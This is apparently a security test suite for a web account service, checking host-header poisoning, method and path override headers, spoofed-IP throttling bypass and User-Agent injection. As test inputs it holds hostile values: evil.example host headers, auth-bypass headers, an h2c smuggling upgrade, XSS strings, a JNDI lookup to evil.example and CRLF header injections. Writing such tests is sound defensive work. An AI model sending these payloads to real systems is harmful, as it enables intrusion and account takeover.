import assert from 'node:assert/strict'
import { type TestContext, test } from 'node:test'
import { inspect } from 'node:util'
import { ROUTES } from '../../src/routes/table.ts'
import { rawRequest } from '../../src/testing/client.ts'
import type { Browser, Reply } from '../http/client.ts'
import { watchFailures } from '../response-support.ts'
import { type AccountSite, ANNA, isLoggedIn, logIn, PAGE, startAccounts } from './site.ts'

const BASE_URL = 'https://app.example.test'
const EVIL = 'evil.example'

/** Headers by which proxies say what host, scheme and path a request was for. */
const POISONS: readonly Readonly<Record<string, string>>[] = [
  { host: EVIL },
  { host: `${EVIL}:443` },
  { host: `app.example.test@${EVIL}` },
  { host: `app.example.test.${EVIL}` },
  { 'x-forwarded-host': EVIL, 'x-forwarded-proto': 'https', 'x-forwarded-port': '443' },
  { 'x-forwarded-server': EVIL, 'x-host': EVIL, 'x-original-host': EVIL, 'x-http-host-override': EVIL },
  { forwarded: `for=1.2.3.4;host=${EVIL};proto=https` },
  { 'x-forwarded-prefix': `//${EVIL}`, 'x-script-name': `//${EVIL}`, 'x-forwarded-uri': `//${EVIL}/` },
  { referer: `https://${EVIL}/`, 'x-original-url': `https://${EVIL}/`, 'x-rewrite-url': `https://${EVIL}/` },
]

/** Everything that mails a link, one after the other. */
async function causeAllMails(site: AccountSite, headers: Readonly<Record<string, string>>): Promise<Reply[]> {
  const browser = site.browser()
  const ask = (path: string, body: object) => browser.post(path, body, headers)
  const newPassword = 'a quite different passphrase'
  const change = { currentPassword: ANNA.password, newPassword }
  return [
    await ask('/signup', ANNA),
    await ask('/password/forgot', { email: ANNA.email }),
    await ask('/account/email', { newEmail: 'new@example.test' }),
    await ask('/account/password', change),
    await site.browser().post('/login', { ...ANNA, password: newPassword }, headers),
    await site.browser().get('/account', { ...PAGE, ...headers }),
    await browser.post('/logout', {}, { ...PAGE, ...headers }),
  ]
}

for (const trustProxy of [false, 1]) {
  test(`mails, redirects and cookies know no host but the configured one, trust proxy ${trustProxy} (E-06, T46)`, async (t) => {
    for (const poison of POISONS) {
      const site = await startAccounts(t, { addRoutes: (app) => void app.set('trust proxy', trustProxy) })
      const replies = await causeAllMails(site, poison)
      assert.ok(replies.every(({ status }) => status < 500))
      assert.ok(!JSON.stringify(replies).includes(EVIL), inspect(poison))
      const mails = await site.mails()
      assert.ok(mails.length >= 4)
      for (const { text } of mails) {
        const links = text.match(/\bhttps?:\S+/g) ?? []
        assert.ok(
          links.every((link) => link.startsWith(`${BASE_URL}/`)),
          text,
        )
        assert.ok(!text.includes(EVIL))
      }
    }
  })
}

test('a target with another host in it puts that host nowhere (E-06, T46)', async (t) => {
  const site = await startAccounts(t)
  await site.member()
  const body = JSON.stringify({ email: ANNA.email })
  for (const path of ['/password/forgot', '/login', '/account']) {
    const lines = [`POST https://${EVIL}${path} HTTP/1.1`, `Host: ${EVIL}`, 'Content-Type: application/json']
    const head = [...lines, `Content-Length: ${body.length}`, 'Connection: close', '', ''].join('\r\n')
    const answer = await rawRequest(Number(new URL(site.origin).port), head + body)
    assert.doesNotMatch(answer, /^(?:location|set-cookie):.*evil/im)
  }
  assert.ok((await site.mails()).every(({ text }) => !text.includes(EVIL)))
})

/** What some servers and frameworks let a request say about itself. */
const OVERRIDES: readonly Readonly<Record<string, string>>[] = [
  ...['x-http-method-override', 'x-http-method', 'x-method-override', 'x-method'].flatMap((name) => [
    { [name]: 'POST' },
    { [name]: 'GET' },
    { [name]: 'DELETE' },
  ]),
  ...[
    'x-original-url',
    'x-rewrite-url',
    'x-override-url',
    'x-forwarded-path',
    'x-forwarded-uri',
    'x-envoy-original-path',
  ].map((name) => ({ [name]: '/login' })),
  { 'x-middleware-subrequest': 'middleware:middleware:middleware:middleware:middleware' },
  { 'x-middleware-next': '1', 'x-middleware-rewrite': '/login', 'x-middleware-invoke': '1' },
  {
    'x-forwarded-user': ANNA.email,
    'x-remote-user': ANNA.email,
    'x-user-id': '1',
    'x-authenticated-userid': '1',
  },
  { 'x-internal': '1', 'x-debug': '1', 'x-forwarded-for': '127.0.0.1', 'x-real-ip': '127.0.0.1' },
  { authorization: 'Basic YW5uYTphbm5h', 'proxy-authorization': 'Basic YW5uYTphbm5h' },
  { upgrade: 'h2c', 'http2-settings': 'AAMAAABkAARAAAAAAAIAAAAA', connection: 'Upgrade, HTTP2-Settings' },
]

test('no header changes the method or the path, or lets anybody past a guard (W-05, W-12, T48)', async (t) => {
  const site = await startAccounts(t)
  const anna = await site.member()
  for (const headers of OVERRIDES) {
    for (const path of ['/account', '/account/sessions', '/account/delete', '/protected']) {
      assert.equal((await site.browser().get(path, headers)).status, 401, inspect({ path, headers }))
      assert.equal((await site.browser().post(path, {}, headers)).status < 400, false)
    }
    assert.equal((await anna.get('/logout', headers)).status, 405)
    assert.equal((await anna.get('/logout?_method=POST', headers)).status, 405)
    assert.equal((await anna.post('/account?_method=DELETE', { _method: 'DELETE' }, headers)).status, 405)
  }
  assert.equal(await isLoggedIn(anna), true)
})

test('GET, HEAD and every method that is not POST change nothing (W-05, S-24, T48)', async (t) => {
  const site = await startAccounts(t)
  const anna = await site.member()
  const posts = Object.entries(ROUTES).flatMap(([path, { POST }]) => (POST === undefined ? [] : [path]))
  for (const method of ['GET', 'HEAD', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'PROPFIND', 'QUERY']) {
    for (const path of posts) {
      const { status } = await anna.send(path.replace(':id', 'x'), { method, json: ANNA })
      assert.ok(status < 500, `${method} ${path}: ${status}`)
    }
  }
  assert.equal(await isLoggedIn(anna), true)
  assert.equal((await site.mails()).length, 1)
})

/** Where strangers say that they come from. */
function claimed(index: number): Readonly<Record<string, string>> {
  const address = `203.0.113.${index}`
  return {
    'x-forwarded-for': `${address}, ${address}`,
    'x-real-ip': address,
    'x-client-ip': address,
    'true-client-ip': address,
    'cf-connecting-ip': address,
    forwarded: `for=${address}`,
  }
}

/** Uses up what one client may try at one account, and waits until failures in a row cost no more time. */
async function useUp(
  site: AccountSite,
  from: (index: number) => Readonly<Record<string, string>>,
): Promise<void> {
  await site.member()
  for (let index = 0; index < 10; index++) assert.equal(await guess(site, from(index)), 401)
  site.clock.advance(2_000)
}

/** Whether the next try is refused because of the client, and not because of the account. */
async function isUsedUp(site: AccountSite, headers: Readonly<Record<string, string>>): Promise<boolean> {
  if ((await guess(site, headers)) === 401) return false
  const buckets = site.events.flatMap((event) => (event.type === 'account.throttled' ? [event.bucket] : []))
  assert.equal(buckets.at(-1), 'login')
  return true
}

async function guess(site: AccountSite, headers: Readonly<Record<string, string>>): Promise<number> {
  const wrong = { ...ANNA, password: 'wrong wrong wrong' }
  return (await site.browser().post('/login', wrong, headers)).status
}

test('whoever is behind no proxy of ours is at one address, whatever they claim (R-07)', async (t) => {
  const site = await startAccounts(t)
  await useUp(site, claimed)
  assert.equal(await isUsedUp(site, claimed(10)), true)
})

/** Spellings of one client as a trusted proxy may add them. */
const ONE_CLIENT: Readonly<Record<string, (index: number) => string>> = {
  'is asked for by the right-most address alone': (index) => `198.51.100.${index}, 203.0.113.9`,
  'has one address in IPv4 and mapped into IPv6': (index) =>
    ['203.0.113.9', '::ffff:203.0.113.9', '::FFFF:cb00:7109', '0:0:0:0:0:ffff:203.0.113.9'][index % 4] ?? '',
  'has a whole /64 of IPv6': (index) => `2001:db8:0:1::${index.toString(16)}`,
  'has no address that can be read': (index) =>
    ['unknown', '_hidden', '1.2.3', 'x'.repeat(200)][index % 4] ?? '',
}

for (const [name, spell] of Object.entries(ONE_CLIENT)) {
  test(`a client behind a trusted proxy ${name} (R-07)`, async (t) => {
    const site = await startAccounts(t, { addRoutes: (app) => void app.set('trust proxy', 1) })
    const from = (index: number) => ({ 'x-forwarded-for': spell(index) })
    await useUp(site, from)
    assert.equal(await isUsedUp(site, from(10)), true)
    assert.equal(await isUsedUp(site, { 'x-forwarded-for': '192.0.2.1' }), false)
  })
}

test('where every proxy would be trusted nobody’s claim is (R-07)', async (t) => {
  const site = await startAccounts(t, { addRoutes: (app) => void app.set('trust proxy', true) })
  await useUp(site, claimed)
  assert.equal(await isUsedUp(site, claimed(10)), true)
})

const USER_AGENTS: readonly string[] = [
  'x'.repeat(15_000),
  `Firefox/1 ${'Windows '.repeat(1_500)}`,
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  `\${jndi:ldap://evil.example/a}`,
  '{{7*7}}',
  '\xff\xfe\xc0\x80',
  '\u0085\u00a0',
  '%0d%0aSet-Cookie: a=b',
  '',
]

/** Names that we made, and nothing else. */
const OWN_NAMES =
  /^(?:[A-Z][A-Za-z.]*(?: [A-Z][a-z]+)?|Unknown browser)(?: on (?:iPhone|iPad|Android|ChromeOS|Windows|macOS|Linux))?$/

async function devicesOf(browser: Browser): Promise<string[]> {
  const { sessions }: { sessions: { device: string }[] } = JSON.parse(
    (await browser.get('/account/sessions')).body,
  )
  const { events }: { events: { device: string }[] } = JSON.parse(
    (await browser.get('/account/activity')).body,
  )
  return [...sessions, ...events].map(({ device }) => device)
}

test('a User-Agent shows nothing but names of ours, in lists, pages and mails (F-06, T70, T85)', async (t) => {
  const failures = watchFailures(t)
  const site = await startAccounts(t)
  const anna = await site.member()
  for (const userAgent of USER_AGENTS)
    assert.equal((await site.browser().post('/login', ANNA, { 'user-agent': userAgent })).status, 200)
  const mails = (await site.mails()).filter(({ subject }) => /New login/.test(subject))
  assert.equal(mails.length, USER_AGENTS.length)
  for (const device of await devicesOf(anna)) assert.match(device, OWN_NAMES)
  const pages = [await anna.get('/account/sessions', PAGE), await anna.get('/account/activity', PAGE)]
  for (const text of [...pages.map(({ body }) => body), ...mails.map(({ text }) => text)])
    for (const userAgent of USER_AGENTS.filter(Boolean))
      assert.ok(!text.includes(userAgent.slice(0, 20)), text)
  assert.deepEqual(failures, [])
})

const LOGIN = JSON.stringify(ANNA)

/** A login whose User-Agent is these bytes. */
function loginAs(userAgent: string): string {
  const type = ['Content-Type: application/json', `Content-Length: ${LOGIN.length}`, 'Connection: close']
  return `${['POST /login HTTP/1.1', 'Host: a', `User-Agent: ${userAgent}`, ...type].join('\r\n')}\r\n\r\n${LOGIN}`
}

async function logInRaw(t: TestContext, userAgent: string): Promise<{ answer: string; site: AccountSite }> {
  const site = await startAccounts(t)
  await site.member()
  return { answer: await rawRequest(Number(new URL(site.origin).port), loginAs(userAgent)), site }
}

test('a User-Agent of a megabyte is refused before anything looks at it (F-06)', async (t) => {
  const { answer } = await logInRaw(t, 'x'.repeat(1_048_576))
  assert.match(answer, /^HTTP\/1\.1 431 /)
})

const BYTES: Readonly<Record<string, string>> = {
  'an escape sequence': 'Firefox/1\x1b[2J\x1b]0;mine\x07 Windows',
  'a header of its own': 'Firefox/1\r\nX-Injected: 1\r\nX: Windows',
  'a bare line feed': 'Firefox/1\nX-Injected: 1 Windows',
  'a bare carriage return': 'Firefox/1\rX-Injected: 1 Windows',
  'a NUL': 'Firefox/1\0 Windows',
  'a line separator': 'Firefox/1\xe2\x80\xa8{"level":"admin"} Windows',
}

for (const [name, userAgent] of Object.entries(BYTES)) {
  test(`a User-Agent with ${name} is refused, or shown by our names (F-06, T85)`, async (t) => {
    const { answer, site } = await logInRaw(t, userAgent)
    assert.match(answer, /^HTTP\/1\.1 (?:200|400) /)
    assert.doesNotMatch(answer, /x-injected/i)
    const browser = site.browser()
    await logIn(browser)
    for (const device of await devicesOf(browser)) assert.match(device, OWN_NAMES)
    // What is told to the listener must not end a line of its log either.
    for (const event of site.events) assert.doesNotMatch(JSON.stringify(event), /[\p{Cc}\u2028\u2029]/u)
  })
}
